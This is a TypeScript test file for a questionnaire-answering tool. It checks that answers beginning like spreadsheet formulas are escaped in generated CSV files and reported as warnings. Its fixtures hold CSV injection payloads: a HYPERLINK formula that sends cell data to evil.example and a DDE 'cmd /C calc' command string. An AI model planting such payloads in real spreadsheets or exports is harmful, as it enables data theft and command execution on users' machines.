import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { answer, type AnswerOptions } from '../../src/commands/answer';
import { formatDiagnostic, sortDiagnostics } from '../../src/diagnostics';
import { files } from '../checks/helpers';
import { testdir } from '../helpers/testdir';

// Questionnaires and libraries written by someone hostile: a customer's spreadsheet, a pull request's answer.

const NOW = new Date('2026-07-01T12:00:00Z');

function run(root: string, options: Partial<AnswerOptions>) {
  return answer({ contentDir: path.join(root, 'content'), outDir: path.join(root, 'out'), now: NOW, ...options });
}

const FORMULA_LIBRARY = `- id: encryption-at-rest
  question: Is data encrypted at rest?
  answer: '=HYPERLINK("https://evil.example/?d="&A1,"Yes")'
  short: yes
  caiq: [CEK-03.1]
  audience: public
  reviewed: 2026-06-26

- id: backups
  question: How often are backups taken?
  answer: "@SUM(1+1)*cmd|' /C calc'!A0"
  short: n/a
  caiq: [BCR-08.1]
  audience: public
  reviewed: 2026-06-26

- id: retention
  question: How long is data retained?
  answer: "-30 days after the contract ends, then deleted."
  short: n/a
  caiq: [DSP-16.1]
  audience: public
  reviewed: 2026-06-26

- id: deletion
  question: Can we ask you to delete our data?
  answer: "\\t+Yes, on request."
  short: yes
  caiq: [DSP-02.1]
  audience: public
  reviewed: 2026-06-26
`;

describe('formula injection through the answered CSV and caiq-v4.csv', () => {
  const CSV = 'Question,Answer,Notes\nIs data encrypted at rest?,,=1+1\nHow often are backups taken?,,\nHow long is data retained?,,\nCan we ask you to delete our data?,,\n';

  test('every answer that opens like a formula is written after a single quote; the customer\'s own cells are left alone', async () => {
    const root = testdir({ ...files({ 'content/answers.yaml': FORMULA_LIBRARY }), 'acme.csv': CSV });
    const result = await run(root, { file: path.join(root, 'acme.csv') });
    expect(result.ok).toBe(true);
    expect(fs.readFileSync(path.join(root, 'out/answers/acme-answered.csv'), 'utf8')).toBe(
      [
        'Question,Answer,Notes,Confidence,Source',
        `Is data encrypted at rest?,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Yes"")",=1+1,high,encryption-at-rest`,
        `How often are backups taken?,'@SUM(1+1)*cmd|' /C calc'!A0,,high,backups`,
        `How long is data retained?,"'-30 days after the contract ends, then deleted.",,high,retention`,
        `Can we ask you to delete our data?,"'\t+Yes, on request.",,high,deletion`,
        '',
      ].join('\n'),
    );
  });

  test('caiq-v4.csv writes them the same way', async () => {
    const root = testdir(files({ 'content/answers.yaml': FORMULA_LIBRARY }));
    await run(root, { format: 'caiq' });
    expect(fs.readFileSync(path.join(root, 'out/answers/caiq-v4.csv'), 'utf8').split('\r\n')).toEqual([
      'Question ID,CSP CAIQ Answer,CSP Implementation Description',
      `BCR-08.1,NA,'@SUM(1+1)*cmd|' /C calc'!A0`,
      `CEK-03.1,Yes,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Yes"")"`,
      `DSP-02.1,Yes,"'\t+Yes, on request."`,
      `DSP-16.1,NA,"'-30 days after the contract ends, then deleted."`,
      '',
    ]);
  });

  test('each such answer is a warning at its place in the library', async () => {
    const root = testdir(files({ 'content/answers.yaml': FORMULA_LIBRARY }));
    const result = await run(root, { format: 'caiq' });
    expect(sortDiagnostics(result.diagnostics).map(formatDiagnostic)).toEqual([
      `content/answers.yaml:3:11  warning  Answer "encryption-at-rest" starts with "=", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "=HYPERLINK(\\"https://")  answers/formula-start`,
      `content/answers.yaml:11:11  warning  Answer "backups" starts with "@", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "@SUM(1+1)*cmd|' /C c")  answers/formula-start`,
      `content/answers.yaml:19:11  warning  Answer "retention" starts with "-", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "-30 days after the c")  answers/formula-start`,
      `content/answers.yaml:27:11  warning  Answer "deletion" starts with "\\t", which a spreadsheet opening a CSV file runs as a formula; the CSV copies write it after a ', so start the answer with a word (expected an answer that starts with a word, found "\\t+Yes, on request.")  answers/formula-start`,
    ]);
  });
});
